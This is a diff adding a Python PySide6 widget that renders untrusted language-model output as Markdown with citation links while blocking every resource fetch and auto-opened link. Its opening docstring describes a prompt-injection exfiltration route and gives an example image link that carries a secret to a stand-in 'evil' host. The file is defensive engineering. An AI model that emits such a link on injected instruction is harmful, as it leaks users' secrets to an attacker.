@@ -1,0 +1,202 @@
+"""A QTextBrowser for model output: Markdown that never fetches anything, citations as links.
+
+Model text is untrusted: an injected instruction can ask for ``![x](https://evil/?q=secret)``.
+``SafeBrowser.loadResource`` therefore refuses every resource (remote or local), so no image
+or stylesheet is ever fetched, and links never open by themselves: ``link_requested`` hands
+the address to the window, which shows it and asks first.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+
+from PySide6.QtCore import QRect, QSize, Qt, QUrl, Signal, Slot
+from PySide6.QtGui import QColor, QResizeEvent, QTextCharFormat, QTextCursor, QTextDocument
+from PySide6.QtWidgets import QFrame, QSizePolicy, QTextBrowser, QWidget
+
+from app.citations import Check, Citation
+
+CITE_SCHEME = "cite"
+# Colours that read on light and dark backgrounds.
+CHECK_COLORS = {
+    Check.VERIFIED: QColor("#2e9d5b"),
+    Check.UNVERIFIED: QColor("#c27c0e"),
+    Check.FAILED: QColor("#d0453a"),
+    Check.UNRESOLVED: QColor("#d0453a"),
+}
+CHECK_WORDS = {
+    Check.VERIFIED: "verified at the source",
+    Check.UNVERIFIED: "unverified",
+    Check.FAILED: "not found at the source",
+    Check.UNRESOLVED: "unresolved",
+}
+_FENCE = re.compile(r"^(```|~~~)", re.MULTILINE)
+
+
+def _in_code(text: str, offset: int) -> bool:
+    """Whether ``offset`` lies inside a fenced code block or an inline code span."""
+    fences = len(_FENCE.findall(text[:offset]))
+    if fences % 2:
+        return True
+    line_start = text.rfind("\n", 0, offset) + 1
+    return text[line_start:offset].count("`") % 2 == 1
+
+
+def link_citations(markdown: str, citations: Sequence[Citation]) -> str:
+    """Turn each citation bracket into a ``cite:<offset>`` Markdown link."""
+    out: list[str] = []
+    pos = 0
+    seen: set[int] = set()
+    for cite in sorted(citations, key=lambda c: c.start):
+        if cite.start in seen or cite.start < pos or _in_code(markdown, cite.start):
+            continue
+        seen.add(cite.start)
+        inner = markdown[cite.start + 1 : cite.end - 1].replace("[", "").replace("]", "")
+        out.append(markdown[pos : cite.start])
+        out.append(f"[\\[{inner}\\]]({CITE_SCHEME}:{cite.start})")
+        pos = cite.end
+    out.append(markdown[pos:])
+    return "".join(out)
+
+
+class SafeBrowser(QTextBrowser):
+    """Read-only Markdown view that loads no resources and reports clicked links.
+
+    Signals:
+        citation_clicked(int): the answer offset of the clicked citation bracket.
+        link_requested(QUrl): a web or mail link was clicked; the window asks before opening.
+    """
+
+    citation_clicked = Signal(int)
+    link_requested = Signal(QUrl)
+
+    def __init__(self, parent: QWidget | None = None, *, auto_height: bool = True) -> None:
+        super().__init__(parent)
+        self.refused: list[str] = []
+        self._auto_height = auto_height
+        self.setOpenLinks(False)
+        self.setOpenExternalLinks(False)
+        self.setFrameShape(QFrame.Shape.NoFrame)
+        self.anchorClicked.connect(self.on_self_anchor_clicked)
+        if auto_height:
+            self.setVerticalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
+            self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAsNeeded)
+            self.setSizePolicy(QSizePolicy.Policy.Expanding, QSizePolicy.Policy.Fixed)
+            self.document().contentsChanged.connect(self._fit_height)
+        self.viewport().setAutoFillBackground(False)
+
+    def loadResource(self, kind: int, name: QUrl | str) -> object:  # noqa: ARG002
+        """Refuse every resource: model output must never make Longdesk fetch anything."""
+        self.refused.append(name.toString() if isinstance(name, QUrl) else str(name))
+        return None
+
+    def set_answer(self, markdown: str, citations: Sequence[Citation] = ()) -> None:
+        """Render ``markdown`` with its citations as coloured links."""
+        bar = self.horizontalScrollBar().value()
+        text = link_citations(markdown, citations) if citations else markdown
+        # Raw HTML from the model is shown as text, never interpreted (GitHub dialect otherwise).
+        features = QTextDocument.MarkdownFeature(
+            QTextDocument.MarkdownFeature.MarkdownDialectGitHub.value
+            & ~QTextDocument.MarkdownFeature.MarkdownNoHTML.value
+            | QTextDocument.MarkdownFeature.MarkdownNoHTML.value
+        )
+        self.document().setMarkdown(text, features)
+        if citations:
+            self._style_citations({c.start: c for c in citations})
+        self.horizontalScrollBar().setValue(bar)
+        self._fit_height()
+
+    def citation_rects(self) -> list[tuple[str, QRect]]:
+        """(href, viewport rectangle) of every citation link, e.g. to click it."""
+        found = []
+        block = self.document().begin()
+        while block.isValid():
+            it = block.begin()
+            while not it.atEnd():
+                frag = it.fragment()
+                fmt = frag.charFormat()
+                if fmt.isAnchor() and fmt.anchorHref().startswith(CITE_SCHEME + ":"):
+                    cursor = QTextCursor(self.document())
+                    cursor.setPosition(frag.position() + max(1, frag.length() // 2))
+                    found.append((fmt.anchorHref(), self.cursorRect(cursor)))
+                it += 1
+            block = block.next()
+        return found
+
+    def citation_formats(self) -> list[tuple[str, QTextCharFormat]]:
+        """(href, format) of every citation link fragment, for tests and checks."""
+        found = []
+        block = self.document().begin()
+        while block.isValid():
+            it = block.begin()
+            while not it.atEnd():
+                frag = it.fragment()
+                fmt = frag.charFormat()
+                if fmt.isAnchor() and fmt.anchorHref().startswith(CITE_SCHEME + ":"):
+                    found.append((fmt.anchorHref(), fmt))
+                it += 1
+            block = block.next()
+        return found
+
+    def _style_citations(self, by_start: dict[int, Citation]) -> None:
+        doc: QTextDocument = self.document()
+        cursor = QTextCursor(doc)
+        block = doc.begin()
+        while block.isValid():
+            it = block.begin()
+            while not it.atEnd():
+                frag = it.fragment()
+                fmt = frag.charFormat()
+                href = fmt.anchorHref()
+                if fmt.isAnchor() and href.startswith(CITE_SCHEME + ":"):
+                    cite = by_start.get(int(href.split(":", 1)[1] or -1))
+                    if cite is not None:
+                        new = QTextCharFormat(fmt)
+                        new.setForeground(CHECK_COLORS[cite.check])
+                        new.setFontUnderline(True)
+                        style = (
+                            QTextCharFormat.UnderlineStyle.SingleUnderline
+                            if cite.check is Check.VERIFIED
+                            else QTextCharFormat.UnderlineStyle.DashUnderline
+                            if cite.check is Check.UNVERIFIED
+                            else QTextCharFormat.UnderlineStyle.WaveUnderline
+                        )
+                        new.setUnderlineStyle(style)
+                        new.setUnderlineColor(CHECK_COLORS[cite.check])
+                        new.setToolTip(f"{cite.raw}: {CHECK_WORDS[cite.check]} — {cite.reason}")
+                        cursor.setPosition(frag.position())
+                        cursor.setPosition(frag.position() + frag.length(), QTextCursor.MoveMode.KeepAnchor)
+                        cursor.setCharFormat(new)
+                it += 1
+            block = block.next()
+
+    @Slot(QUrl)
+    def on_self_anchor_clicked(self, url: QUrl) -> None:
+        if url.scheme() == CITE_SCHEME:
+            try:
+                self.citation_clicked.emit(int(url.path() or url.toString().split(":", 1)[1]))
+            except ValueError:
+                return
+        elif url.scheme() in ("http", "https", "mailto"):
+            self.link_requested.emit(url)
+        # Any other scheme (file:, javascript:, data:) is ignored.
+
+    def _fit_height(self) -> None:
+        if not self._auto_height:
+            return
+        doc = self.document()
+        doc.setTextWidth(max(50, self.viewport().width()))
+        margins = self.contentsMargins()
+        wide = doc.idealWidth() > self.viewport().width() + 1
+        extra = self.horizontalScrollBar().sizeHint().height() if wide else 0
+        height = int(doc.size().height()) + margins.top() + margins.bottom() + extra + 4
+        if height != self.height():
+            self.setFixedHeight(height)
+
+    def resizeEvent(self, event: QResizeEvent) -> None:
+        super().resizeEvent(event)
+        self._fit_height()
+
+    def sizeHint(self) -> QSize:
+        return QSize(400, self.height())
